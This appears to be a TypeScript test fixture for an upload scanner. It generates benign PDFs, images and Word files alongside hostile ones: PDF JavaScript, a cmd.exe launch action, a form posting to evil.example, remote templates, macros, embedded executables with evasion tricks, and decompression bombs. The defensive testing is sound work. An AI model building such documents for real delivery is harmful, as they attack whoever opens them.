import { deflateSync } from 'node:zlib';
import { compound, docx, png } from './testing-uploads.ts';

/** One made file: what it is, what it is called, and its bytes. */
export interface MadeFile {
  readonly what: string;
  readonly name: string;
  readonly bytes: Buffer;
}

/** A PDF of these objects, each with its number; `rest` stands in the trailer. */
function pdfOf(objects: Record<number, string | Buffer>, rest = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  for (const [number, body] of Object.entries(objects))
    parts.push(Buffer.from(`${number} 0 obj\n`), Buffer.from(body as string, 'latin1'), Buffer.from('\nendobj\n'));
  parts.push(Buffer.from(`trailer\n<</Root 1 0 R${rest}>>\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

/** A stream with these entries besides its length. */
function stream(entries: string, content: Buffer | string): Buffer {
  const bytes = Buffer.from(content as string, 'latin1');
  return Buffer.concat([
    Buffer.from(`<<${entries}/Length ${bytes.length}>>stream\n`, 'latin1'),
    bytes,
    Buffer.from('\nendstream'),
  ]);
}

/** Objects in a stream of their own, deflated unless told otherwise. */
function objectStream(objects: Record<number, string>, { type = '/Type/ObjStm', filter = '/FlateDecode' } = {}) {
  let [table, body] = ['', ''];
  for (const [number, text] of Object.entries(objects)) {
    table += `${number} ${body.length} `;
    body += `${text} `;
  }
  const text = Buffer.from(table + body, 'latin1');
  const content = filter === '/FlateDecode' ? deflateSync(text) : Buffer.from(`${text.toString('hex')}>`, 'latin1');
  return stream(`${type}/N ${Object.keys(objects).length}/First ${table.length}/Filter ${filter}`, content);
}

const catalog = (more = '') => `<</Type/Catalog/Pages 2 0 R${more}>>`;
const pages = '<</Type/Pages/Kids[3 0 R]/Count 1>>';
const page = (more = '') => `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]${more}>>`;
const made = (what: string, objects: Record<number, string | Buffer>, rest = ''): MadeFile => ({
  what,
  name: 'a.pdf',
  bytes: pdfOf({ 1: catalog(), 2: pages, 3: page(), ...objects }, rest),
});

/** A directory entry of a compound file. */
function withEntries(...names: string[]): Buffer {
  const file = compound();
  names.forEach((name, index) => {
    const at = 3 * 512 + index * 128;
    file.write(`${name}\0`, at, 'utf16le');
    file.writeUInt16LE(2 * (name.length + 1), at + 64);
    file[at + 66] = 1;
  });
  return file;
}

const relations = (type: string, target: string) =>
  `<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const types = (type: string) => `<Types><Override PartName="/word/x.bin" ContentType="${type}"/></Types>`;

/** A JPEG that announces this size. */
function jpegOf(width: number, height: number): Buffer {
  const frame = Buffer.from('ffc0001108000000000301220002110103110100', 'hex');
  frame.writeUInt16BE(height, 5);
  frame.writeUInt16BE(width, 7);
  const exif = Buffer.concat([Buffer.from('ffe1fffe', 'hex'), Buffer.alloc(65_532)]);
  return Buffer.concat([Buffer.from('ffd8', 'hex'), exif, frame, Buffer.from('ffda0002ffd9', 'hex')]);
}

function pngOf(width: number, height: number): Buffer {
  const picture = png();
  picture.writeUInt32BE(width, 16);
  picture.writeUInt32BE(height, 20);
  return picture;
}

const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const macroTypes = 'application/vnd.ms-office.vbaProject';

/** Files as people have them. */
export async function ordinaryFiles(): Promise<MadeFile[]> {
  const word = async (what: string, parts: Record<string, Buffer | string>): Promise<MadeFile> => ({
    what,
    name: 'a.docx',
    bytes: await docx(parts),
  });
  return [
    made('a plain PDF', {}),
    made('a PDF with links to pages of the web', {
      3: page('/Annots[4 0 R]'),
      4: '<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://www.nmc.org.uk)>>>>',
    }),
    made('a PDF with its objects in a stream, as Word writes them', {
      4: objectStream({ 5: '<</Type/Font/BaseFont/Arial>>', 6: '<</S/URI/URI(https://www.nmc.org.uk)>>' }),
    }),
    made('a PDF that opens at its first page', { 1: catalog('/OpenAction[3 0 R/XYZ null null 0]') }),
    made('a PDF that opens by an action to go to a page', {
      1: catalog('/OpenAction 4 0 R'),
      4: '<</S/GoTo/D[3 0 R/Fit]>>',
    }),
    made('a PDF with a form without scripts', {
      1: catalog('/AcroForm<</Fields[4 0 R]/DR<</Font<</Helv 5 0 R>>>>>>'),
      4: '<</FT/Tx/T(name)/Subtype/Widget/AA<</U<</S/URI/URI(https://www.nmc.org.uk)>>>>>>',
    }),
    made('a form in XML without scripts', {
      1: catalog('/AcroForm<</XFA[(template)4 0 R]/Fields[]>>'),
      4: stream('/Filter/FlateDecode', deflateSync('<xdp><template><field name="scripted"/></template></xdp>')),
    }),
    made('a signed certificate', {
      1: catalog('/AcroForm<</SigFlags 3/Fields[4 0 R]>>/Perms<</DocMDP 5 0 R>>'),
      4: '<</FT/Sig/V 5 0 R>>',
      5: '<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 9 9 9]/Contents<00ff>>>',
    }),
    made(
      'a PDF that may not be changed, for whoever has no password',
      { 4: stream('', 'sealed bytes') },
      '/Encrypt 9 0 R',
    ),
    made('a course about JavaScript', {
      4: stream('', 'BT (/S /JavaScript /JS) Tj ET'),
      5: '<</Title(How to /Launch a programme with /JavaScript)>>',
    }),
    made('a scan with whatever bytes', { 4: stream('/Subtype/Image/Filter/DCTDecode', jpegOf(2_480, 3_508)) }),
    { what: 'a picture of a large camera', name: 'a.jpg', bytes: jpegOf(8_192, 6_144) },
    { what: 'a screenshot', name: 'a.png', bytes: pngOf(3_840, 2_160) },
    { what: 'an old Word file', name: 'a.doc', bytes: withEntries('WordDocument', '1Table', 'ObjectPool') },
    await word('a Word document with a link', {
      'word/_rels/document.xml.rels': relations('hyperlink', 'https://www.nmc.org.uk'),
    }),
    await word('a Word document whose template lies on a share', {
      'word/_rels/settings.xml.rels': relations('attachedTemplate', 'file:///\\\\trust\\templates\\letter.dotx'),
    }),
    await word('a Word document with a chart', { 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': 'PK' }),
    await word('a Word document with a picture from the web', {
      'word/_rels/document.xml.rels': relations('image', 'https://www.nmc.org.uk/logo.png'),
    }),
  ];
}

/** Files that do more than show pages, each with words its refusal must hold. */
export async function harmfulFiles(): Promise<(MadeFile & { words: string })[]> {
  const pdf = (what: string, objects: Record<number, string | Buffer>, words = 'contains a program', rest = '') => ({
    ...made(what, objects, rest),
    words,
  });
  const doc = (what: string, words: string, ...names: string[]) => ({
    ...{ what, words, name: 'a.doc' },
    bytes: withEntries('WordDocument', ...names),
  });
  const word = async (what: string, words: string, parts: Record<string, Buffer | string>) => ({
    ...{ what, words, name: 'a.docx' },
    bytes: await docx(parts),
  });
  const comment = pdfOf({ 1: catalog('/OpenAction 7 0 R'), 2: pages, 3: page() }).toString('latin1');
  return [
    pdf('a script at opening', { 1: catalog(`/OpenAction${script}`) }),
    pdf('a script under escaped names', { 1: catalog('/Open#41ction<</#53/J#61vaScript/#4a#53(1)>>') }),
    pdf('a script in an object stream', { 4: objectStream({ 5: script }) }),
    pdf('a script in an object stream that hides what it is', {
      4: objectStream({ 5: script }, { type: '/Type/XObject' }),
    }),
    pdf('an action whose kind is an object of its own', { 4: '<</S 5 0 R/JS(1)>>', 5: '/JavaScript' }),
    pdf('scripts by name', { 1: catalog('/Names<</JavaScript<</Names[(a)4 0 R]>>>>'), 4: script }),
    pdf('a script of a field', { 4: `<</FT/Tx/AA<</K${script}>>>>` }),
    pdf('a script of a rendition', { 4: '<</S/Rendition/JS 5 0 R>>', 5: stream('', 'app.alert(1)') }),
    pdf('a script of a drawing in space', { 4: stream('/Type/3D/Subtype/U3D/OnInstantiate 5 0 R', '') }),
    {
      ...pdf('a script in a comment', {}),
      bytes: Buffer.from(comment.replace('\ntrailer', `\n% 7 0 obj ${script} endobj\ntrailer`), 'latin1'),
    },
    pdf('a script in a text', { 4: `<</Title(7 0 obj ${script} endobj)>>` }),
    pdf('a script in a stream that is none', { 4: stream('', `7 0 obj ${script} endobj`) }),
    pdf('a script under a second value of a key', { 4: '<</S/GoTo/S/JavaScript/JS(1)>>' }),
    pdf('a program to launch', { 4: '<</S/Launch/F(cmd.exe)>>' }),
    pdf('a program to launch at the first page', { 3: page('/AA<</O<</S/Launch/Win<</F(cmd.exe)>>>>>>') }),
    pdf('an address opened by itself', { 1: catalog('/OpenAction 4 0 R'), 4: '<</S/URI/URI(http://evil.example)>>' }),
    pdf('an address opened as the next action', {
      1: catalog('/OpenAction 4 0 R'),
      4: '<</S/GoTo/D[3 0 R]/Next[5 0 R]>>',
      5: '<</S/URI/URI(http://evil.example)>>',
    }),
    pdf('a form that sends itself', { 3: page('/AA<</O<</S/SubmitForm/F(http://evil.example)>>>>') }),
    pdf('a file read into a form', { 4: '<</S/ImportData/F(secrets.fdf)>>' }),
    pdf('a film with a program', { 4: '<</Type/Annot/Subtype/RichMedia>>' }),
    pdf('a form in XML with a script', {
      1: catalog('/AcroForm<</XFA 4 0 R>>'),
      4: stream(
        '/Filter/FlateDecode',
        deflateSync('<xdp><script contentType="application/x-javascript">1</script></xdp>'),
      ),
    }),
    pdf('an attached file', { 4: '<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>' }, 'has another file inside it'),
    pdf(
      'an attached file in an object stream',
      { 4: objectStream({ 5: '<</F(a.exe)/EF<</F 6 0 R>>>>' }) },
      'another file',
    ),
    pdf(
      'objects that cannot be unfolded',
      { 4: objectStream({ 5: script }, { filter: '/ASCIIHexDecode' }) },
      'be checked',
    ),
    pdf('objects that are locked', { 4: objectStream({ 5: '<<>>' }) }, 'is locked', '/Encrypt 9 0 R'),
    pdf('lists in lists without an end', { 4: '['.repeat(100_000) }, 'cannot be checked'),
    pdf('a million objects that never end', { 4: 'obj('.repeat(1_000_000) }, 'cannot be checked'),
    pdf(
      'objects that unfold for ever',
      {
        4: stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', deflateSync(Buffer.alloc(70 * 1024 * 1024, 32))),
      },
      'cannot be checked',
    ),
    doc('macros of Word', 'contains macros', 'Macros'),
    doc('macros of another program', 'contains macros', '_VBA_PROJECT_CUR'),
    doc('macros in other letters', 'contains macros', 'mAcRoS'),
    doc('a packed program', 'another file', '\x01Ole10Native'),
    doc('a locked document', 'is locked', 'EncryptedPackage'),
    await word('macros under their own name', 'contains macros', { 'word/vbaProject.bin': 'x' }),
    await word('macros under another name', 'contains macros', {
      '[Content_Types].xml': types(macroTypes),
      'word/x.bin': 'x',
    }),
    await word('macros in numbers', 'contains macros', {
      '[Content_Types].xml': types(macroTypes.replace('v', '&#x76;')),
    }),
    await word('macros in wide letters', 'contains macros', {
      '[Content_Types].xml': Buffer.from(`\ufeff${types(macroTypes)}`, 'utf16le'),
    }),
    await word('a packed object', 'another file', { 'word/embeddings/oleObject1.bin': 'x' }),
    await word('a control', 'contains macros', { 'word/activeX/activeX1.bin': 'x' }),
    await word('a template from the web', 'from the internet', {
      'word/_rels/settings.xml.rels': relations('attachedTemplate', 'https://evil.example/a.dotm'),
    }),
    await word('a template from the web behind a sign that ends a tag elsewhere', 'from the internet', {
      'word/_rels/settings.xml.rels': relations('attachedTemplate', 'https://evil.example/a.dotm').replace(
        'Id="',
        'Id=">',
      ),
    }),
    await word('an object from the web', 'from the internet', {
      'word/_rels/document.xml.rels': relations('oleObject', 'http://evil.example/a.html!'),
    }),
  ];
}

/** Pictures that would take hundreds of megabytes to show. */
export const hugePictures: readonly MadeFile[] = [
  { what: 'a PNG of 9,999 by 9,999', name: 'a.png', bytes: pngOf(9_999, 9_999) },
  { what: 'a JPEG of 9,999 by 9,999', name: 'a.jpg', bytes: jpegOf(9_999, 9_999) },
];
